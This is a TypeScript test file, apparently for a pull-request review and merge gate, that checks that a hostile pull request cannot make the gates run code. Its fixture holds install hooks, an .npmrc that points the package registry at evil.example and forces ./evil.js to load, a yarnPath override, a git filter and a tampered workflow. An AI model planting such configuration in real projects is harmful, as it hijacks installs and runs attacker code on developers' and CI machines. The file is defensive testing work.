/** Code execution from the pull request: the gates read it as data. No process, no file, no connection. */
import { createHook } from 'node:async_hooks';
import { available } from '../../src/domain/evidence.ts';
import { merge } from '../../src/gates/merge/merge.ts';
import type { ReviewPorts } from '../../src/gates/review/ports.ts';
import { review } from '../../src/gates/review/review.ts';
import { pullRequestWith } from '../gates/merge/pull-requests.ts';
import { BASE, HEAD, memoryGitHub } from './support/memory.ts';
import { judging, NOW, OWN, policyBy, SELF } from './support/ports.ts';
import { projectAt, START, STARTING_FILES, WORKFLOW, type Texts } from './support/project.ts';

const SCRIPTS = { preinstall: 'touch PWNED', prepare: 'touch PWNED', postinstall: 'touch PWNED' };
const before = STARTING_FILES;
const updated = projectAt({ ...START, 'left-pad': '1.3.1' });
const hostile: Texts = {
  ...before,
  ...updated,
  'package.json': JSON.stringify({ ...(JSON.parse(updated['package.json'] ?? '') as object), scripts: SCRIPTS }),
  '.npmrc': 'registry=https://evil.example/\nscript-shell=/tmp/evil\nnode-options=--require ./evil.js\n',
  '.yarnrc.yml': 'yarnPath: ./evil.js\n',
  '.gitattributes': '* filter=evil\n',
  '.github/workflows/evil.yml': WORKFLOW.replace('npm test', 'touch PWNED'),
  'evil.js': 'require("fs").writeFileSync("PWNED", "")',
};

/** What asynchronous work of the machine is begun meanwhile: processes, files, sockets, workers. */
async function machineWork(run: () => Promise<unknown>): Promise<string[]> {
  const begun: string[] = [];
  const hook = createHook({
    init: (_id, type) => {
      if (/PROCESS|FSREQ|FILEHANDLE|TCP|PIPE|WORKER|HTTP|GETADDRINFO/.test(type)) begun.push(type);
    },
  });
  hook.enable();
  try {
    await run();
  } finally {
    hook.disable();
  }
  return begun;
}

async function ports(): Promise<ReviewPorts> {
  const files = [...new Set([...Object.keys(before), ...Object.keys(hostile)])];
  const changes = files
    .filter((path) => before[path] !== hostile[path])
    .map((path) => ({
      path,
      status: path in before ? ('modified' as const) : ('added' as const),
      modeBefore: path in before ? '100644' : null,
      modeAfter: '100644',
      onlyUsesRefs: false,
      onlyDependencies: false,
    }));
  const pullRequest = pullRequestWith({
    head: { sha: HEAD, ref: 'bot', repoId: 1 },
    base: { sha: BASE, ref: 'main', repoId: 1 },
    files: available(changes),
  });
  const github = memoryGitHub(before, hostile, pullRequest);
  // The presets are files of ours; they are read before anything is watched.
  const policy = await policyBy((path) => github.file(path, BASE));
  return {
    github,
    policy: async () => Promise.resolve(policy),
    judging: () => judging,
    render: { comment: String, summary: String, sarif: String },
  };
}

const common = { now: NOW, directory: '.', dryRun: true };

describe('threat 15: code execution from the pull request', () => {
  it('can be seen by this test at all', async () => {
    const { readFile } = await import('node:fs/promises');
    expect(await machineWork(() => readFile('package.json'))).not.toEqual([]);
  });

  it('does not happen in a review', async () => {
    const all = await ports();
    const change = { kind: 'pull-request' as const, number: 7, head: HEAD };
    const input = { ...common, change, checkName: 'lockgate', comment: 'auto', sarif: 'auto', ref: 'x' } as const;
    let judged = 0;
    const begun = await machineWork(async () => {
      judged = (await review(input, all)).decision.graph.packages;
    });
    expect(judged).toBeGreaterThan(1);
    expect(begun).toEqual([]);
  });

  it('does not happen in the merge gate', async () => {
    const all = await ports();
    const input = { ...common, number: 7, head: null, own: OWN, self: SELF, mayWriteWorkflows: false };
    let verdict = '';
    const begun = await machineWork(async () => {
      verdict = (await merge(input, all)).decision.verdict;
    });
    expect(verdict).toBe('deny');
    expect(begun).toEqual([]);
  });
});
